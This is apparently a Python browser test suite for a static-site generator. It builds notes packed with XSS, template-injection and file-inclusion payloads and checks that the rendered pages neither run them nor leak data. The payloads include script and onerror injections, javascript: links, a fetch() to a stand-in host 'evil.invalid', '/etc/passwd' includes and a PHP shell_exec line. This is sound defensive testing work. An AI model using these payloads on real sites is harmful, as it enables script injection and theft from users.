"""Hostile notes: refused as the rules stand; and where a library turns every rule off, built into pages that do nothing.

Pages are opened in Chromium with their Content-Security-Policy switched off, so that what keeps them still is the text of
the pages alone.
"""

import http.server
import json
import re
import threading
from collections.abc import Iterator
from dataclasses import dataclass, field
from functools import partial
from pathlib import Path
from typing import Any
from xml.etree import ElementTree

import pytest
from florilegium.core import policy
from florilegium.core.rules import RULES
from florilegium.site.search.index_blocks import decode_block
from playwright.sync_api import Browser, Dialog, Request, Route
from projects import LIBRARY, Project, make_project, tree

EVIL = "evil.invalid"
HIT = f"window.pwned=1;alert(1);fetch('https://{EVIL}/x')"

# Prose that has no right to be more than text. "@" in a body stands for the script.
PROSE = {
    "script": "<script>@</script>",
    "script-src": f'<script src="https://{EVIL}/x.js"></script>',
    "script-split": "<scr<script>ipt>@</scr</script>ipt>",
    "script-case": "<ScRiPt>@</sCrIpT>",
    "script-in-code-fence": "```html\n</code></pre><script>@</script>\n```",
    "script-in-code-info": "```</code><script>@</script>\nx\n```",
    "script-in-inline-code": "`</code><script>@</script>`",
    "script-in-table": "| a | b |\n|---|---|\n| <script>@</script> | <img src=x onerror=@> |",
    "script-in-list": "- <script>@</script>\n- [x] <img src=x onerror=@>",
    "script-in-footnote": "Text[^1]\n\n[^1]: <img src=x onerror=@> </li></ol></section><script>@</script>",
    "script-in-heading": "## A heading <script>@</script> <img src=x onerror=@> {: onclick=@ #__config }",
    "script-in-quote": "> <script>@</script> <img src=x onerror=@>\n>\n> — the author, in [@bad2012, p. 1] #numbing {#one}",
    "script-in-locator": "> Words.\n>\n> — the author \"<script>@</script>\", in [<b>see @bad2012, <img src=x onerror=@>] #numbing {#two}",
    "script-in-citation": "As [see <script>@</script> @bad2012, p. <img src=x onerror=@>] says.",
    "comment": "<!-- secret-comment --><!--><img src=x onerror=@>-->",
    "cdata": "<svg><![CDATA[><img src=x onerror=@>]]></svg>",
    "instruction": "<?php echo shell_exec('id') ?> <?xml version='1.0'?> <!DOCTYPE html><!ENTITY x 'y'>",
    "image": "<img src=x onerror=@> ![a\" onerror=\"@](x) ![a](x \"t\\\" onerror=@\")",
    "image-remote": f"![a](https://{EVIL}/pixel.png) <img src=//{EVIL}/p.png srcset=https://{EVIL}/q.png>",
    "image-unclosed": "<img src=x onerror=@ //",
    "svg": "<svg onload=@><animate onbegin=@ attributeName=x dur=1s></svg>",
    "svg-use": f'<svg><use href="https://{EVIL}/x.svg#a"/><a xlink:href="javascript:@"><text y=9>t</text></a></svg>',
    "svg-foreign": "<svg><foreignObject><iframe srcdoc='<script>parent.@</script>'></iframe></foreignObject></svg>",
    "math": '<math><mtext><table><mglyph><style><img src=x onerror=@></style></mglyph></table></mtext></math>',
    "noscript": '<noscript><p title="</noscript><img src=x onerror=@>"></noscript>',
    "template": "<template><script>@</script></template><xmp><script>@</script></xmp><plaintext>",
    "textarea": "<textarea autofocus onfocus=@></textarea> <title></title><img src=x onerror=@>",
    "details": "<details ontoggle=@ open><summary onclick=@>s</summary>t</details>",
    "details-unclosed": "<details><summary>shut\n\nhidden",
    "iframe": f'<iframe src="https://{EVIL}"></iframe><iframe srcdoc="<script>@</script>">',
    "object": f'<object data="https://{EVIL}/x.swf"></object><embed src="https://{EVIL}/x"><applet code=x>',
    "form": f'<form action="https://{EVIL}"><input autofocus onfocus=@ name=q><button formaction="javascript:@">Go</button>',
    "meta": f'<meta http-equiv=refresh content="0;url=https://{EVIL}"><base href="https://{EVIL}/"><link rel=stylesheet href="https://{EVIL}/x.css">',
    "style": f"<style>@import url(https://{EVIL}/x.css); * {{ display: none }}</style><p style=\"position:fixed;inset:0;background:url(https://{EVIL}/x)\">x</p>",
    "media": f'<video src="https://{EVIL}/v" autoplay onplay=@><audio src=x onerror=@><source src=x onerror=@></audio></video>',
    "marquee": "<marquee onstart=@>x</marquee><body onload=@><dialog open>x</dialog><blink>x</blink>",
    "class": f'<div class="md-header" data-md-component="header"><a href="https://{EVIL}/class" class="md-button">Home</a></div>',
    "config-id": '<b id="__config">{"base": "//evil.invalid"}</b> <a id="__search" name="location">x</a> <span id=fl-main>x</span>',
    "attribute-list": "*word*{: onmouseover=@ #__config .md-header style=\"x\" } [a](b){: target=_blank onclick=@ }\n{: #fl-main }",
    "heading-id": "## Another {#__config}\n\n## Third {#fl-main}\n\n## Works cited\n\n## Cited elsewhere\n\n## Timeline\n\n## Timeline title\n\n## Fourth {: #__drawer .md-nav data-md-x=1 }",
    "close-frame": "</div></article></main></body></html><script>@</script>",
    "javascript-link": "[a](javascript:@) <javascript:@> [b](JaVaScRiPt:@) [c](java\tscript:@) [d](&#106;avascript:@) [e](\x01javascript:@)",
    "javascript-link-encoded": "[a](javascript&colon;@) [b](javascript%3A@) [c](<java\\\nscript:@>) [d][x]\n\n[x]: javascript:@",
    "data-link": "[a](data:text/html,<script>@</script>) [b](vbscript:@) [c](blob:x) [d](file:///etc/passwd) [e](ftp://x.invalid)",
    "host-link": f"[a](//{EVIL}/x) [b](\\\\\\\\{EVIL}/x) [c](/\\{EVIL}) [d](https:{EVIL})",
    "link-title": '[a](https://example.org "t\\" onmouseover=@ x=\\"") [b](https://example.org/"onmouseover=@)',
    "link-ping": f'<a href="https://example.org" ping="https://{EVIL}" target=_blank download onclick=@>x</a>',
    "autolink": '<https://example.org/"onmouseover="@> https://example.org/"><img src=x onerror=@>',
    "entities": "&#60;script&#62;@&#60;/script&#62; &lt;img src=x onerror=@&gt; &#x0;&#xD800;&#1114112;",
    "double-entities": "&amp;lt;script&amp;gt;@&amp;lt;/script&amp;gt;",
    "jinja": "{{ config }} {% include '/etc/passwd' %} {{ ''.__class__.__mro__ }} {# hidden #} ${7*7} #{7*7} <%= 7*7 %>",
    "snippet": '--8<-- "/etc/passwd"\n\n;--8<-- "mkdocs.yml"\n\n![[../../mkdocs.yml]] {!mkdocs.yml!} {{#include mkdocs.yml}}',
    "front-matter-again": "---\ntemplate: ../../../etc/passwd\nhide: [navigation]\n---",
    "meta-data-lines": "template: main.html\nhide: toc\n",
    "extensions": '!!! danger "<script>@</script>"\n    x\n\n??? x\n\n=== "T"\n\n    x\n\n*[HTML]: "><img src=x onerror=@>\n\n$$\\href{javascript:@}{x}$$',
    "raw-block-end": "</div>\n\n<div markdown=1 onclick=@>\n\n*x*\n\n</div>\n\n<p markdown=block>y",
    "slots": "\ufdd0root\ufdd1 \ufdd0quote0\ufdd1 \ufdd0citation0\ufdd1 \ufdd00\ufdd1 \x02stx\x03 \x02wzxhzdk:0\x03",
    "bidi": "a \u202eexe.fdp\u202c b \u2066x c \U000e0041\U000e0042",
    "ruby": "<ruby onclick=@>a<rt style=x>b</rt></ruby> <abbr title='\"><img src=x onerror=@>'>c</abbr> <time datetime=\"'><script>@</script>\">d</time>",
    "unclosed": "<b><i><details><table><td><ruby><rt><del><kbd",
    "nested-anchor": "[a [b](https://example.org/b) <a href='javascript:@'>c</a>](https://example.org/a)",
    "mutation": '<b title="--!><img src=x onerror=@>"><del datetime="`><img src=x onerror=@>">x</del></b><listing>&lt;img src=x onerror=@&gt;</listing>',
    "slash": "<b/onclick=@>x</b/onclick=@><i\x0conclick=@>y</i><s\nonclick=@\n>z</s>",
    "terminal": "\x1b]0;title\x07\x1b[31m \r::error::x\n\n::set-output name=x::y",
}  # fmt: skip

# Texts that stand in heads, lists, chips and records too.
LABELS = {
    "plain": "<script>@</script>",
    "breakout": "\"><img src=x onerror=@> '><svg onload=@>",
    "end-tags": "</title></script></style></head></article><script>@</script>",
    "entity": "&lt;script&gt;@&lt;/script&gt; &amp;lt;img src=x onerror=@&amp;gt;",
    "jinja": "{{ config }} {% raw %} {# x #} {{ 7*7 }}",
    "markdown": "*a* `b` [c](javascript:@) ![d](x) # e {: onclick=@ } --8<-- \"mkdocs.yml\" <https://evil.invalid>",
}  # fmt: skip


def _note(name: str, title: str, body: str, number: int, extra: str = "") -> str:
    return f"""\
---
title: {json.dumps(title)}
source: bad2012
basis: full-text
themes: [numbing]
date: 2024-01-01
references:
  - id: bad2012
    type: book
    author: [{{family: Bad, given: B.}}]
    title: A book
    publisher: A press
    issued: {{date-parts: [[2012]]}}{extra}
---
Before.

{body}

CANARY-{name}
"""


def _library() -> dict[str, str | bytes]:
    """Benign notes, and one for each kind of attack, with every rule turned off."""
    rules = ", ".join(f"{rule}: off" for rule in RULES)
    files: dict[str, str | bytes] = {**LIBRARY, "notes/rich.md": RICH}
    for number, (name, body) in enumerate(PROSE.items()):
        files[f"notes/prose-{name}.md"] = _note(
            f"prose-{name}",
            f"Prose {name}",
            body.replace("@bad2012", "\0").replace("@", HIT).replace("\0", "@bad2012"),
            number,
        )
    for number, (name, label) in enumerate(LABELS.items()):
        text = label.replace("@", HIT)
        own = LIBRARY["notes/forgetting.md"].replace("doe2009", f"own{number}").replace("#gone", f"#gone{number}")
        own = own.replace("title: On forgetting", f"title: {json.dumps('Title ' + text)}")
        own = own.replace(
            "title: The art of forgetting",
            f"title: {json.dumps('Work ' + text)}\n    abstract: {json.dumps(text)}\n    URL: {json.dumps('https://example.org/' + text)}\n    DOI: {json.dumps('10.1000/' + text)}",
        )
        own = own.replace("family: Doe, given: Jane", f"family: {json.dumps('Name ' + text)}")
        own = own.replace("#amnesia", f"#amnesia #label-{name}").replace(
            "themes: [amnesia]", f"themes: [amnesia, label-{name}]"
        )
        files[f"notes/label-{name}.md"] = own + f"\nCANARY-label-{name}\n"
        files[f"themes/label-{name}.md"] = (
            f"---\nlabel: {json.dumps('Theme ' + text)}\naliases: [{json.dumps(text)}]\n---\n{text}\n\nCANARY-theme-{name}\n"
        )
    evil = LABELS["breakout"].replace("@", HIT)
    files["library.yml"] = f"""\
title: {json.dumps("Library " + evil)}
description: {json.dumps(evil)}
help: {json.dumps(evil)}
language: en
citation-style: apa
notices:
  - {{id: drug-use, label: {json.dumps("Notice " + evil)}, description: {json.dumps(evil)}}}
roles:
  - {{id: participant, label: {json.dumps("Role " + evil)}}}
  - {{id: author, label: Author}}
rules: {{{rules}}}
"""
    return files


RICH = _note(
    "rich",
    "Everything that prose may hold",
    """\
## A heading with `code`, *stress*, <kbd>K</kbd>

A [link](https://example.org), <https://example.org/auto>, a [note](forgetting.md), a footnote.[^a] [@bad2012, p. 3]

[^a]: What it *says*.

| a | b | c |
|:--|:-:|--:|
| 1 | 2 | 3 |

1. one
   - deep
2. two

```python
code()
```

<details open><summary>More</summary>

Inside.

</details>

<ruby>a<rt>b</rt></ruby> <abbr title="t">c</abbr> <del>d</del> <ins>e</ins> H<sub>2</sub>O <mark>f</mark> <time datetime="2020-01-01">g</time>

***

> Words *with* stress.
>
> > nested
>
> — a participant "Dana", in [@bad2012, p. 4], quoted in [@bad2012, p. 5] #numbing !drug-use {#rich}
""",
    0,
)


@dataclass(frozen=True)
class Opened:
    """What a browser saw of a page."""

    text: str
    found: dict[str, Any]
    dialogs: list[str] = field(default_factory=list)
    requests: list[str] = field(default_factory=list)


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Project:
    project = make_project(tmp_path_factory.mktemp("hostile"), library=_library())
    project.build()
    return project


# Of a document: what could act, and of its article every element, attribute, class and id.
_LOOK = """() => {
  const all = [...document.querySelectorAll('*')];
  const article = document.querySelector('article');
  const within = article ? [...article.querySelectorAll('*')] : [];
  const ids = all.filter(e => e.id).map(e => e.id);
  return {
    acting: all.flatMap(e => [...e.attributes].filter(a => /^on|^srcdoc$|^ping$|^formaction$/i.test(a.name)).map(a => e.tagName + ' ' + a.name)),
    scripts: all.filter(e => e.localName === 'script').map(e => [e.type, e.src, e.src ? '' : e.textContent]),
    embedding: all.filter(e => ['iframe', 'object', 'embed', 'base', 'frame', 'portal', 'applet'].includes(e.localName)).map(e => e.outerHTML),
    refresh: document.querySelectorAll('meta[http-equiv=refresh i]').length,
    hrefs: all.filter(e => e.hasAttribute('href') || e.hasAttribute('xlink:href')).map(e => [e.localName, e.getAttribute('href') ?? e.getAttribute('xlink:href'), String(e.href)]),
    twice: ids.filter((id, i) => ids.indexOf(id) !== i),
    ids: within.filter(e => e.id).map(e => e.id),
    elements: [...new Set(within.map(e => e.localName))],
    attributes: [...new Set(within.flatMap(e => [...e.attributes].map(a => e.localName + ' ' + a.name)))],
    classes: [...new Set(within.flatMap(e => [...e.classList]))],
    pwned: window.pwned ?? null,
    title: document.title,
    text: document.body.textContent,
  };
}"""


class _Quiet(http.server.SimpleHTTPRequestHandler):
    def log_message(self, *_: object) -> None:
        pass


@pytest.fixture(scope="module")
def opened(hostile: Project, chromium: Browser) -> Iterator[dict[str, Opened]]:
    """Every page of the hostile site as Chromium shows it, by its path."""
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), partial(_Quiet, directory=str(hostile.site)))
    threading.Thread(target=server.serve_forever, daemon=True).start()
    origin = f"http://127.0.0.1:{server.server_port}/"
    context = chromium.new_context(bypass_csp=True)
    page = context.new_page()
    dialogs: list[str] = []
    requests: list[str] = []

    def on_dialog(dialog: Dialog) -> None:
        dialogs.append(dialog.message)
        dialog.dismiss()

    def on_request(route: Route, request: Request) -> None:
        requests.append(request.url)
        route.abort()

    page.on("dialog", on_dialog)
    # The site's own requests are let through without being asked for here: there are thousands of them.
    page.route(re.compile(f"^(?!{re.escape(origin)}|data:image/)"), on_request)
    found = {}
    for path in _pages(hostile.site):
        dialogs.clear()
        requests.clear()
        page.goto(origin + ("" if path == "." else f"{path}/"), wait_until="load")
        look = page.evaluate(_LOOK)
        found[path] = Opened(look["text"], {**look, "origin": origin}, [*dialogs], [*requests])
    yield found
    context.close()
    server.shutdown()


def _pages(site: Path) -> list[str]:
    """Of the pages written by hand one is enough."""
    pages = [str(path.parent.relative_to(site)) for path in sorted(site.rglob("index.html"))]
    return [page for page in pages if page.split("/")[0] in ("notes", "themes", "quotes", "references", ".", "about")]


pytestmark = pytest.mark.browser


def test_every_note_has_its_page_with_its_last_words(opened: dict[str, Opened]) -> None:
    missing = [f"prose-{name}" for name in PROSE if f"CANARY-prose-{name}" not in opened[f"notes/prose-{name}"].text]
    missing += [f"label-{name}" for name in LABELS if f"CANARY-label-{name}" not in opened[f"notes/label-{name}"].text]
    missing += [f"theme-{name}" for name in LABELS if f"CANARY-theme-{name}" not in opened[f"themes/label-{name}"].text]
    assert not missing


def test_no_page_does_anything(opened: dict[str, Opened]) -> None:
    did = {
        path: (page.dialogs, page.requests, page.found["pwned"])
        for path, page in opened.items()
        if page.dialogs or page.requests or page.found["pwned"]
    }
    assert not did


def test_no_page_could_do_anything(opened: dict[str, Opened]) -> None:
    for path, page in opened.items():
        found = page.found
        assert not found["acting"], path
        assert not found["embedding"], path
        assert not found["refresh"], path
        for kind, source, text in found["scripts"]:
            assert source.startswith(found["origin"]) or (kind == "application/ld+json" and json.loads(text)), path


def test_links_have_the_schemes_of_the_list(opened: dict[str, Opened]) -> None:
    for path, page in opened.items():
        for element, written, address in page.found["hrefs"]:
            if element == "link":
                assert address.startswith(page.found["origin"]), (path, written)
                continue
            scheme = address.partition(":")[0]
            assert scheme in policy.SCHEMES, (path, written)
            assert not re.match(r"\s*[/\\]{2}", written), (path, written)
            own = address.startswith(page.found["origin"])
            assert own or re.match(r"https?://(?!evil)|mailto:|https://evil\.invalid/?", written), (path, written)


def test_articles_hold_what_the_list_allows(opened: dict[str, Opened]) -> None:
    """Next to a benign note that uses everything, a hostile one adds nothing but what the written list names."""
    allowed: dict[str, set[str]] = {"elements": set(policy.ELEMENTS), "attributes": set(), "classes": set()}
    for path in ("notes/rich", "notes/forgetting", "notes/remembering"):
        for kind, names in allowed.items():
            names |= set(opened[path].found[kind])
    everywhere = policy.ATTRIBUTES["*"]
    allowed["attributes"] |= {
        f"{e} {a}" for e in policy.ELEMENTS for a in everywhere | policy.ATTRIBUTES.get(e, frozenset())
    }
    allowed["classes"] |= {"fl-left", "fl-center", "fl-right"}
    for name in PROSE:
        found = opened[f"notes/prose-{name}"].found
        for kind, names in allowed.items():
            assert set(found[kind]) <= names, (name, kind)


def test_no_id_takes_the_place_of_another(opened: dict[str, Opened]) -> None:
    for path, page in opened.items():
        assert not page.found["twice"], path
        assert not [id_ for id_ in page.found["ids"] if id_.startswith("__") or id_ in ("location", "fl-main")], path


def test_titles_are_shown_as_they_are(opened: dict[str, Opened]) -> None:
    for name, label in LABELS.items():
        text = " ".join(("Title " + label.replace("@", HIT)).split())
        shown = " ".join(opened[f"notes/label-{name}"].text.split())
        assert text in shown, name


def test_no_file_of_the_machine_is_published(hostile: Project) -> None:
    configuration = "not_in_nav"
    for path, data in tree(hostile.site).items():
        if path.startswith(("notes/", "themes/", "quotes/", "references/")):
            assert b"root:x:0" not in data, path
            assert configuration.encode() not in data, path
            assert b"secret-comment" not in data, path
            # An expression of a template engine that was worked out.
            assert b"$49" not in data, path


def test_records_and_feeds_can_be_read(hostile: Project) -> None:
    blocks = [decode_block(path.read_bytes()) for path in (hostile.site / "search-index").glob("[qntw]-*.bin")]
    entries = [(number >> 20, entry) for block in blocks for number, entry in block.items()]
    assert len(entries) > len(PROSE)
    for kind, entry in entries:
        assert kind == 3 or re.fullmatch(r"[a-z0-9-]+", entry[0]), entry[0]
        assert kind != 3 or re.fullmatch(r"[A-Za-z0-9/#?=&._-]*", entry[2]), entry[2]
    for path in hostile.site.rglob("*.xml"):
        ElementTree.parse(path)
    for path in hostile.site.rglob("*.json"):
        json.loads(path.read_bytes())


def test_a_name_that_is_no_address_is_never_published(tmp_path: Path) -> None:
    """Not even where the rule that refuses it is turned off."""
    library: dict[str, str | bytes] = {**LIBRARY, 'notes/Odd "><img src=x>.md': LIBRARY["notes/remembering.md"]}
    library["library.yml"] = LIBRARY["library.yml"] + "rules: {invalid-id: off, duplicate-quote: off}\n"
    project = make_project(tmp_path, library=library)
    result = project.florilegium("build")
    assert result.returncode == 2, result.stderr
    assert "Traceback" not in result.stderr
    assert 'annotations/notes/Odd "><img src=x>.md' in result.stderr
    assert not project.site.exists()


def test_as_the_rules_stand_nothing_is_written(tmp_path: Path) -> None:
    library = _library()
    library["library.yml"] = LIBRARY["library.yml"]
    project = make_project(tmp_path, library=library)
    docs = tree(project.root / "docs")
    result = project.florilegium("build")
    assert result.returncode == 1
    assert "Traceback" not in result.stderr
    assert tree(project.root / "docs") == docs
    assert not project.site.exists()
    checked = json.loads(project.florilegium("check", "--format", "json").stdout)
    assert not set("\x1b\x07\u202e") & set(result.stdout + result.stderr)
    text = json.dumps(checked)
    for rule in ("forbidden-html", "unsafe-link", "forbidden-image", "invisible-character"):
        assert rule in text
